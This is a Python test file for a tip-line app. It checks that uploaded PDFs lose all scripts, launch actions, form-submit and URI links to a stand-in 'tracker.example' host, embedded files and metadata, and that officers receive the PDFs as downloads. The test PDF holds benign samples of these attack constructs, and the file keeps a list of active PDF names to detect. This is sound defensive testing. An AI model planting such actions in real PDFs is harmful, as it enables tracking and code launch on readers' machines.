"""PDF attachments lose every active part (actions, forms, scripts, attached files) and are served as downloads.

Bad input thrown here: one PDF with JavaScript in an open action, a page's and an annotation's additional actions
and the document's name tree, a link calling home (/URI), a link starting a program (/Launch), a form button
posting the form (/SubmitForm) with an XFA form, an attached file, an action hidden in a resource dictionary, XMP
and an /Author.
"""

from __future__ import annotations

import io

from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    IndirectObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)
from sqlalchemy import select

from tests.helpers import login, make_officer, submit_tip
from tipline.extensions import db
from tipline.models import Attachment, Tip
from tipline.services import uploads

TEXT = "The flyer they hand out at the bus stop, scanned: it names the house where they meet."
ACTIVE_NAMES = {
    "/A",
    "/AA",
    "/OpenAction",
    "/JS",
    "/JavaScript",
    "/Launch",
    "/URI",
    "/SubmitForm",
    "/Names",
    "/EmbeddedFiles",
    "/EmbeddedFile",
    "/EF",
    "/AcroForm",
    "/XFA",
    "/Widget",
    "/Link",
    "/Metadata",
}
SECRETS = ("app.alert", "tracker.example", "evil.exe", "AttachedSecret", "Jane Resident", "FieldSecret", "xmpmeta")


def _n(name: str) -> NameObject:
    return NameObject(name)


def _d(**entries) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{k}"): v for k, v in entries.items()})


def _stream(writer: PdfWriter, data: bytes, **entries) -> IndirectObject:
    stream = DecodedStreamObject()
    stream.set_data(data)
    stream.update(_d(**entries))
    return writer._add_object(stream)


def _js(code: str) -> DictionaryObject:
    return _d(S=_n("/JavaScript"), JS=TextStringObject(code))


def _annotation(writer: PdfWriter, subtype: str, **entries) -> IndirectObject:
    rect = ArrayObject([NumberObject(v) for v in (10, 10, 60, 30)])
    return writer._add_object(_d(Type=_n("/Annot"), Subtype=_n(subtype), Rect=rect, **entries))


def _pdf_with_every_active_construct() -> bytes:
    """A one-page PDF carrying each construct the finding names, and a text note that must survive."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    attached = _stream(writer, b"AttachedSecret: the sender's own notes", Type=_n("/EmbeddedFile"))
    filespec = writer._add_object(_d(Type=_n("/Filespec"), F=TextStringObject("AttachedSecret.txt"), EF=_d(F=attached)))
    widget = _annotation(
        writer,
        "/Widget",
        FT=_n("/Btn"),
        T=TextStringObject("FieldSecret"),
        A=_d(S=_n("/SubmitForm"), F=TextStringObject("https://tracker.example/form")),
    )
    page[_n("/Annots")] = ArrayObject(
        [
            _annotation(writer, "/Link", A=_js("app.alert('link')")),
            _annotation(writer, "/Link", A=_d(S=_n("/Launch"), F=TextStringObject("evil.exe"))),
            _annotation(writer, "/Link", A=_d(S=_n("/URI"), URI=TextStringObject("https://tracker.example/opened"))),
            _annotation(writer, "/Square", AA=_d(E=_js("app.alert('hover')"))),
            widget,
            _annotation(writer, "/Text", Contents=TextStringObject("see the back of the flyer")),
        ]
    )
    page[_n("/AA")] = _d(O=_js("app.alert('page open')"))
    form = _stream(writer, b"q Q", Type=_n("/XObject"), Subtype=_n("/Form"), BBox=ArrayObject([NumberObject(0)] * 4))
    form.get_object()[_n("/Hidden")] = _js("app.alert('in a resource')")  # no reader runs it: still removed
    page[_n("/Resources")] = _d(XObject=_d(Fm0=form))
    catalog = writer.root_object
    catalog[_n("/OpenAction")] = _js("app.alert('document open')")
    catalog[_n("/AA")] = _d(WC=_js("app.alert('closing')"))
    catalog[_n("/Names")] = _d(
        JavaScript=_d(Names=ArrayObject([TextStringObject("init"), _js("app.alert('name tree')")])),
        EmbeddedFiles=_d(Names=ArrayObject([TextStringObject("notes"), filespec])),
    )
    catalog[_n("/AcroForm")] = _d(
        Fields=ArrayObject([widget]), XFA=_stream(writer, b"<xdp:xdp>FieldSecret app.alert(1)</xdp:xdp>")
    )
    catalog[_n("/Metadata")] = _stream(writer, b"<x:xmpmeta>Jane Resident</x:xmpmeta>", Type=_n("/Metadata"))
    writer.add_metadata({"/Author": "Jane Resident"})
    out = io.BytesIO()
    writer.write(out)
    data = out.getvalue()
    for marker in (b"/OpenAction", b"/Launch", b"/SubmitForm", b"/XFA", b"/EmbeddedFiles", b"/URI"):
        assert marker in data
    return data


def _every_object(reader: PdfReader):
    """Every object in the file, each indirect object read by number and everything nested inside it."""
    stack = [reader.trailer]
    for generation, numbers in reader.xref.items():
        stack += [reader.get_object(IndirectObject(idnum, generation, reader)) for idnum in numbers]
    stack += [reader.get_object(IndirectObject(idnum, 0, reader)) for idnum in reader.xref_objStm]
    while stack:
        obj = stack.pop()
        yield obj
        if isinstance(obj, dict):
            stack += [NameObject(k) for k in obj] + [v for v in obj.values() if not isinstance(v, IndirectObject)]
        elif isinstance(obj, list):
            stack += [v for v in obj if not isinstance(v, IndirectObject)]


def _stored_pdf(app) -> bytes:
    with app.app_context():
        [row] = db.session.scalars(select(Attachment)).all()
        assert row.content_type == "application/pdf"
        return uploads.load(row.storage_key)


def test_pdf_actions_scripts_forms_links_and_attached_files_are_all_removed(app, client):
    submit_tip(client, text=TEXT, attachments=[(io.BytesIO(_pdf_with_every_active_construct()), "flyer.pdf")])
    stored = _stored_pdf(app)
    reader = PdfReader(io.BytesIO(stored))
    objects = list(_every_object(reader))
    names = {str(obj) for obj in objects if isinstance(obj, NameObject)}
    assert names.isdisjoint(ACTIVE_NAMES), names & ACTIVE_NAMES
    texts = " ".join(str(obj) for obj in objects if isinstance(obj, str))  # strings, names and stream contents
    texts += " ".join(obj.get_data().decode("latin-1") for obj in objects if isinstance(obj, StreamObject))
    assert [s for s in SECRETS if s in texts] == []
    assert reader.metadata is None
    square, note = (a.get_object() for a in reader.pages[0]["/Annots"])  # the markings stay, without actions
    assert (square["/Subtype"], note["/Subtype"]) == ("/Square", "/Text")
    assert note["/Contents"] == "see the back of the flyer"


def test_officers_download_a_pdf_attachment_instead_of_opening_it_in_the_browser(app, client):
    submit_tip(client, text=TEXT, attachments=[(io.BytesIO(_pdf_with_every_active_construct()), "flyer.pdf")])
    officer = app.test_client()
    login(officer, make_officer(app, "liaison.pdf", "officer", "liaison"))
    with app.app_context():
        tip = db.session.scalars(select(Tip)).one()
        public_id, attachment_id = tip.public_id, tip.attachments[0].id
    response = officer.get(f"/officer/tips/{public_id}/attachments/{attachment_id}")
    assert response.status_code == 200
    assert response.mimetype == "application/pdf"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
